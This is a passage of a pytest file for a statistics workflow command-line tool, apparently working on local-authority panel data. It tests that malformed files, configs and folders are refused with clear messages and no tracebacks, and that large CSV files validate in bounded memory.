      ["compare", "{input}", "{folder}", "--out", "{out}"],
      r"run/posterior\.nc: no log_likelihood group, so PSIS-LOO cannot be computed"),
    C("compare-dirs-out-is-an-input", folder_of({"posterior.nc": netcdf()}),
      ["compare", "{input}", "{folder}", "--out", "{input}"],
      r"--out .*run is not empty and is not a workbench output folder \(posterior\.nc\)"),
    # --- report RUN_DIR -----------------------------------------------------------------------
    C("report-missing-folder", lambda b, f: f / "absent", ["report", "{input}"], r"absent: no such folder"),
    C("report-a-file", raw_file(b"{}", "manifest.json"), ["report", "{input}"],
      r"manifest\.json: is a file, not a folder"),
    C("report-folder-without-manifest", folder_of({"notes.txt": b"x"}), ["report", "{input}"],
      r"run: no run manifest\.json written by `fit` here"),
    C("report-damaged-manifest", folder_of({"manifest.json": b'{"command": "fit", "sections": '}),
      ["report", "{input}"], r"run/manifest\.json: damaged \(not valid JSON: .* at line 1\)"),
    C("report-another-verbs-folder", folder_of({"manifest.json": b'{"command": "describe"}'}), ["report", "{input}"],
      r"run: no run manifest\.json written by `fit` here \(the manifest\.json here was written by `describe`\)"),
    C("report-missing-posterior", folder_of({"manifest.json": FIT_MANIFEST, "gradient/report.html": b"x"}),
      ["report", "{input}"], r"run/gradient/posterior_population\.nc: missing; the gradient fit of this run is"),
    C("report-corrupt-posterior", folder_of({"manifest.json": FIT_MANIFEST,
                                             "gradient/posterior_population.nc": b"\x89HDF\r\n\x1a\n" + bytes(64)}),
      ["report", "{input}"], r"run/gradient/posterior_population\.nc: cannot be read as a posterior"),
    # --- system --config ----------------------------------------------------------------------
    C("system-config-data-section", config('[data]\npreset = "tiny"\nseed = 1\n[system]\n', "sys.toml"),
      ["system", "--config", "{input}", "--out", "{out}"],
      r"sys\.toml: unknown section \[data\]; a system config has system, report"),
    C("system-config-bad-prob", config("[system]\nprob = 2.0\n", "sys.toml"),
      ["system", "--config", "{input}", "--out", "{out}"],
      r"sys\.toml: \[system\] prob 2\.0: expected a credible level in \[0\.5, 1\)"),
    C("system-config-unknown-model", config('[system]\nmodels = ["trend"]\n', "sys.toml"),
      ["system", "--config", "{input}", "--out", "{out}"], r"sys\.toml: \[system\] models \['trend'\]: choose from"),
    C("system-config-wrong-type", config('[system]\ndraws = "1000"\n', "sys.toml"),
      ["system", "--config", "{input}", "--out", "{out}"], r"sys\.toml: system\.draws = '1000': expected int"),
    C("system-panel-missing", config("[system]\n", "sys.toml"),
      ["system", "--config", "{input}", "--panel", "{folder}/absent.csv", "--out", "{out}"],
      r"absent\.csv: file not found"),
    C("system-panel-not-a-panel", config("[system]\n", "sys.toml",
                                         extract_builder=extract(n=5), extract_name="extract.csv"),
      ["system", "--config", "{input}", "--panel", "{folder}/extract.csv", "--out", "{out}"],
      r"extract\.csv: not an LA panel written by `build-panel`: missing column\(s\)"),
    C("system-panel-binary", config("[system]\n", "sys.toml",
                                    extract_builder=raw_file(random.Random(3).randbytes(2048), "panel.csv")),
      ["system", "--config", "{input}", "--panel", "{folder}/panel.csv", "--out", "{out}"],
      r"panel\.csv: not an LA panel: the file holds binary data"),
]


def _snapshot(folder: Path) -> dict[str, str]:
    """Every path under ``folder`` with its sha256 (folders as 'dir')."""
    out = {}
    for p in sorted(folder.rglob("*")):
        out[str(p.relative_to(folder))] = "dir" if p.is_dir() else hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def _fill(argv: list[str], **values) -> list[str]:
    return [a.format(**values) for a in argv]


def run_main(argv: list[str], capsys) -> tuple[int, str]:
    try:
        code = main(argv)
    except SystemExit as exit_:  # argparse's own usage errors
        code = exit_.code
    captured = capsys.readouterr()
    return code, captured.out + captured.err


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=c.mark or ()) for c in CASES])
def test_bad_input_is_refused_clearly(case: Case, base: Base, tmp_path: Path, capsys):
    folder = tmp_path / "case"
    folder.mkdir()
    given = case.build(base, folder)
    out = tmp_path / "out"
    argv = _fill(case.argv, input=str(given), out=str(out), folder=str(folder))
    before = _snapshot(folder)
    code, text = run_main(argv, capsys)
    assert code == 2, text
    for pattern in case.expect:
        assert re.search(pattern, text, flags=re.S), f"{pattern!r} not in:\n{text}"
    assert "Traceback" not in text
    assert not out.exists(), "an output folder was created"
    assert _snapshot(folder) == before, "a file of the case folder was changed, added or removed"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["case"]


def test_the_corpus_is_large_and_covers_every_verb_that_reads_a_file():
    verbs = {c.argv[0] for c in CASES}
    assert len(CASES) >= 50
    assert verbs >= {"validate", "describe", "gradient", "sensitivity", "latent-class", "joint", "fit",
                     "compare", "report", "system"}
    assert len({c.id for c in CASES}) == len(CASES)


def test_the_corpus_table_in_tests_readme_lists_every_case():
    text = (Path(__file__).parent / "README.md").read_text(encoding="utf-8")
    section = text.split("## Bad-input corpus", 1)[1].split("\n## ", 1)[0]
    listed = set(re.findall(r"^\| `([a-z0-9-]+)` \|", section, flags=re.M))
    assert listed == {c.id for c in CASES}


# ---------------------------------------------------------------------------------------
# What is not refused, and how much data the checks cope with
# ---------------------------------------------------------------------------------------

def test_one_la_gradient_says_the_contextual_effect_is_not_estimable_before_fitting(base, tmp_path, capsys,
                                                                                 monkeypatch):
    """One LA: the within-LA gradient can be fitted, so the verb goes ahead, but it says at
    once (before any sampling) that the between-LA effect is the priors'."""
    import workflows.gradient as gradient

    def stop(*args, **kwargs):
        from workflows.errors import UserError
        raise UserError("stopped before fitting (test)")

    monkeypatch.setattr(gradient, "build_gradient_model", stop)
    path = extract(one_la, n=None, name="one-la.csv")(base, tmp_path)
    code, text = run_main(["gradient", str(path), "--out", str(tmp_path / "out")], capsys)
    assert code == 2 and "stopped before fitting (test)" in text
    note = text.index("note: ")
    assert "holds episodes of 1 local authority: the contextual (between-LA, inverse intervention) effect" in text
    assert note < text.index("stopped before fitting")
    assert not (tmp_path / "out").exists()


def test_blank_rows_and_an_excel_bom_are_accepted_with_spreadsheet_row_numbers(base, tmp_path, capsys):
    rows = base.copy_rows(30)
    rows[9][base.col("gender")] = "X"  # spreadsheet row 11, or 13 once two blank rows come before it
    data = csv_bytes(base.header, rows).split(b"\n")
    data[3:3] = [b"", b",,,,,,,,,,,,,,,,,,,,,,"]
    path = write(tmp_path, "gaps.csv", b"\xef\xbb\xbf" + b"\n".join(data))
    code, text = run_main(["validate", str(path)], capsys)
    assert code == 2
    assert "2 blank row(s) ignored (first rows: 4, 5)" in text
    assert "row 13, column gender, value 'X'" in text
    assert "in 30 data row(s)" in text


def test_describe_draws_figures_when_every_value_is_suppressed(base, tmp_path, capsys):
    path = extract(n=12, name="twelve.csv")(base, tmp_path)
    code, text = run_main(["describe", str(path), "--out", str(tmp_path / "out")], capsys)
    assert code == 0, text
    assert (tmp_path / "out" / "figures" / "funnel.png").stat().st_size > 1000


@pytest.mark.parametrize("ending", [b"\r\n", b"\r", b"\n"], ids=["windows", "old-mac", "unix"])
def test_every_line_ending_and_an_excel_bom_are_read(ending, base, tmp_path, capsys):
    data = csv_bytes(base.header, base.copy_rows(30)).replace(b"\n", ending)
    path = write(tmp_path, "endings.csv", b"\xef\xbb\xbf" + data)
    code, text = run_main(["validate", str(path)], capsys)
    assert code == 0, text
    assert "validation passed: 0 error(s), 0 warning(s) in 30 data row(s)" in text


def test_quoted_values_spanning_lines_are_one_spreadsheet_row(base, tmp_path, capsys):
    header = base.header + ["notes"]
    rows = [r + [""] for r in base.copy_rows(10)]
    rows[1][-1] = "first line\nsecond line, with a comma"
    rows[5][base.col("ethnicity")] = "ZZZZ"  # spreadsheet row 7, file line 8
    path = write(tmp_path, "quoted.csv", csv_bytes(header, rows))
    code, text = run_main(["validate", str(path)], capsys)
    assert code == 2, text
    assert "row 7, column ethnicity, value 'ZZZZ'" in text


def test_a_problem_on_the_last_of_200000_rows_is_found_by_the_streamed_reading(base, tmp_path, capsys):
    """The row scan streams (one line in memory); a bad byte at the very end is still found
    and named by its row, before the file is parsed."""
    block = csv_bytes(base.header, base.copy_rows(None)).split(b"\n", 1)[1]
    repeats = -(-200_000 // len(base.rows))
    path = tmp_path / "big.csv"
    with open(path, "wb") as handle:
        handle.write((",".join(base.header) + "\n").encode())
        for _ in range(repeats):
            handle.write(block)
        last = list(base.rows[0])
        last[base.col("ethnicity")] = "WéRI"
        handle.write(",".join(last).encode("cp1252") + b"\n")  # not UTF-8
    n = repeats * len(base.rows) + 1
    code, text = run_main(["validate", str(path)], capsys)
    assert code == 2
    assert f"row {n + 1}, column ethnicity: byte 0xe9" in text
    assert "1 row(s) are not UTF-8 text" in text


#: Runs its arguments as a child and reports the child's peak RSS (KiB on Linux) on stderr.
_MEASURE = ("import resource, subprocess, sys; r = subprocess.run(sys.argv[1:]); "
            "print('PEAK', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr); "
            "sys.exit(r.returncode)")


@pytest.mark.slow
def test_a_million_rows_validate_in_bounded_memory(base, tmp_path):
    """1,000,000 rows (169 MB): about 10 s and 1.3 GB on the 2-core machine
    (benchmarks/bench_validate_1m.py, benchmarks/RESULTS.md); generous bounds here, as
    users run it (a subprocess, so that its peak memory is its own)."""
    episode = base.col("episode_id")
    path = tmp_path / "million.csv"
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(",".join(base.header) + "\n")
        for i in range(1_000_000):
            row = base.rows[i % len(base.rows)]
            handle.write(",".join(row[:episode] + [f"{row[episode]}R{i // len(base.rows)}"] + row[episode + 1:])
                         + "\n")
    # timeout: a hang guard (30 x the measured time), not a speed check; speed is measured in
    # benchmarks/bench_validate_1m.py
    result = subprocess.run([sys.executable, "-c", _MEASURE, sys.executable, "-m", "workflows", "validate",
                             str(path)], cwd=paths.REPO_ROOT, capture_output=True, text=True, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "validation passed: 0 error(s), 0 warning(s) in 1000000 data row(s)" in result.stdout
    peak_mb = int(next(line for line in result.stderr.splitlines() if line.startswith("PEAK ")).split()[1]) / 1024
    assert peak_mb < 2500, peak_mb  # memory does not depend on the machine's speed


# ---------------------------------------------------------------------------------------
# As users run it: no traceback reaches the terminal
# ---------------------------------------------------------------------------------------

SUBPROCESS_CASES = ["non-utf8-row", "describe-header-only", "fit-every-config-problem-at-once",
                    "report-damaged-manifest", "compare-dirs-corrupt-posterior"]


@pytest.mark.parametrize("case_id", SUBPROCESS_CASES)
def test_no_traceback_reaches_the_terminal(case_id, base, tmp_path):
    case = next(c for c in CASES if c.id == case_id)
    folder = tmp_path / "case"
    folder.mkdir()
    given = case.build(base, folder)
    argv = _fill(case.argv, input=str(given), out=str(tmp_path / "out"), folder=str(folder))
    env = {**os.environ, "PYTHONWARNINGS": "ignore"}
    result = subprocess.run([sys.executable, "-m", "workflows", *argv], cwd=paths.REPO_ROOT, env=env,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert re.search(case.expect[0], result.stdout + result.stderr, flags=re.S)
    assert not (tmp_path / "out").exists()
